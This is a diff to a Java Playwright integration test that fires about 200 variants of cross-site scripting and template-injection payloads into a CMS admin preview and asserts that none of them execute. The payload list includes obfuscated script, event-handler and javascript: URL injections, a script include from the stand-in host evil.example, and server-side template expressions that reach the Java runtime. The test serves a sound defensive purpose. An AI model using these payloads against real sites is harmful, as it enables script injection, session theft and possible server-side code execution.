@@ -4,17 +4,22 @@ import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertTha
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
+import com.avaone.api.content.ContentKey;
+import com.avaone.api.content.ContentKind;
 import com.avaone.web.browser.Chromium;
 import com.avaone.web.browser.NeedsChromium;
 import com.deque.html.axecore.playwright.AxeBuilder;
 import com.microsoft.playwright.Browser;
+import com.microsoft.playwright.Frame;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.Response;
 import com.microsoft.playwright.options.AriaRole;
 import java.time.Duration;
 import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.function.UnaryOperator;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -229,5 +234,135 @@ class SiteInBrowserIT {
                     .hasValue("3");
             assertThat(price).hasAttribute("aria-invalid", "true");
         }
+    }
+
+    private static final int PAYLOADS = 200;
+
+    /** What would act if it were let through: each way to act, dressed up in each way to hide it. */
+    private static List<String> payloads() {
+        var acts = List.of(
+                "<script>alert(1)</script>",
+                "<script src=//evil.example/x.js></script>",
+                "<img src=x onerror=alert(1)>",
+                "<img src=x onerror=\"alert(1)\">",
+                "<svg onload=alert(1)>",
+                "<svg><script>alert(1)</script></svg>",
+                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+                "<a href=\"javascript:alert(1)\">x</a>",
+                "<a href=\" &#106;avascript:alert(1)\">x</a>",
+                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+                "<iframe src=\"javascript:alert(1)\"></iframe>",
+                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+                "<object data=\"javascript:alert(1)\"></object>",
+                "<embed src=\"javascript:alert(1)\">",
+                "<form action=\"javascript:alert(1)\"><button autofocus>x</button></form>",
+                "<input onfocus=alert(1) autofocus>",
+                "<details open ontoggle=alert(1)>x</details>",
+                "<video><source onerror=alert(1)></video>",
+                "<audio src=x onerror=alert(1)>",
+                "<body onload=alert(1)>",
+                "<math href=\"javascript:alert(1)\">x</math>",
+                "<marquee onstart=alert(1)>x</marquee>",
+                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+                "<base href=\"javascript:alert(1)//\">",
+                "<style>@import 'javascript:alert(1)';</style>",
+                "<p style=\"animation:x\" onanimationstart=alert(1)>x</p>",
+                "<template><script>alert(1)</script></template>",
+                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
+                "</title><script>alert(1)</script>",
+                "\"><script>alert(1)</script>",
+                "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
+                "\" autofocus onfocus=alert(1) x=\"",
+                "</script><script>alert(1)</script>",
+                "[[${T(java.lang.Runtime).getRuntime()}]]",
+                "__${7*7}__::.x",
+                "{{constructor.constructor('alert(1)')()}}",
+                "${alert(1)}",
+                "javascript:alert(1)",
+                "<!--><script>alert(1)</script>-->");
+        var dresses = List.<UnaryOperator<String>>of(
+                act -> act,
+                act -> "x " + act.replace("script", "ScRiPt").replace("on", "oN"),
+                act -> "<p>before</p>" + act + "<p>after",
+                act -> "<div><b>" + act,
+                act -> "<y " + act.replace(" ", "\n").replace("<", "<\u200b<"));
+        return acts.stream()
+                .flatMap(act -> dresses.stream().map(dress -> dress.apply(act)))
+                .toList();
+    }
+
+    /** Every payload in every field of a page; some of them in every field of every other part. */
+    @Test
+    void runsNothingThatSomebodyWritesIntoIt() {
+        var payloads = payloads();
+        assertThat(payloads).hasSize(PAYLOADS).doesNotHaveDuplicates();
+        try (var context = chromium.open().newContext();
+                var page = context.newPage()) {
+            var faults = new ArrayList<String>();
+            page.addInitScript("window.alert = () => document.documentElement.setAttribute('data-hit', 'yes')");
+            page.onDialog(dialog -> {
+                faults.add(dialog.message());
+                dialog.dismiss();
+            });
+            page.onConsoleMessage(message -> {
+                if (message.type().equals("error")) {
+                    faults.add(message.text());
+                }
+            });
+            page.onRequest(request -> {
+                if (!request.url().startsWith(at("/"))) {
+                    faults.add(request.url());
+                }
+            });
+            page.navigate(at("/admin/login"));
+            page.locator("#email").fill(WholeSuite.EMAIL);
+            page.locator("#password").fill(WholeSuite.PASSWORD);
+            page.locator("#password").press("Enter");
+            assertThat(page).hasURL(at("/admin/dashboard"));
+            page.navigate(at("/admin/cms/edit?key=page/payloads&language=EN"));
+            var token = page.locator("#editor input[name=_csrf]").inputValue();
+            var frame = page.frame("preview");
+            for (var kind : ContentKind.values()) {
+                var some = kind == ContentKind.PAGE ? payloads : payloads.subList(0, 40);
+                for (var number = 0; number < some.size(); number += kind == ContentKind.PAGE ? 1 : 5) {
+                    preview(page, frame, kind, some.get(number), token);
+                    assertThat(frame.locator("main")).isVisible();
+                    assertThat(frame.locator("html").getAttribute("data-hit"))
+                            .as("%s: %s", kind, some.get(number))
+                            .isNull();
+                    assertThat(faults).as("%s: %s", kind, some.get(number)).isEmpty();
+                }
+            }
+        }
+    }
+
+    /** The page as the editor shows it beside itself, with the same text in each of its fields. */
+    private static void preview(Page page, Frame frame, ContentKind kind, String text, String token) {
+        var sent = new LinkedHashMap<String, String>();
+        sent.put("_csrf", token);
+        sent.put("key", key(kind).value());
+        sent.put("language", "EN");
+        kind.fields().forEach(field -> sent.put("fields[" + field.name() + "]", text));
+        kind.itemFields().forEach(field -> sent.put("fields[items/0/" + field.name() + "]", text));
+        frame.waitForNavigation(() -> page.evaluate("""
+                sent => {
+                  const form = document.createElement('form');
+                  Object.assign(form, { method: 'post', action: '/admin/cms/edit/preview', target: 'preview' });
+                  for (const [name, value] of Object.entries(sent)) {
+                    form.append(Object.assign(document.createElement('textarea'), { name, value }));
+                  }
+                  document.body.append(form);
+                  form.submit();
+                  form.remove();
+                }""", sent));
+    }
+
+    private static ContentKey key(ContentKind kind) {
+        return switch (kind) {
+            case PRODUCT, SERVICE -> ContentKey.of(kind, "ava-cx");
+            case PAGE -> ContentKey.of(kind, "payloads");
+            default -> ContentKey.of(kind);
+        };
     }
 }
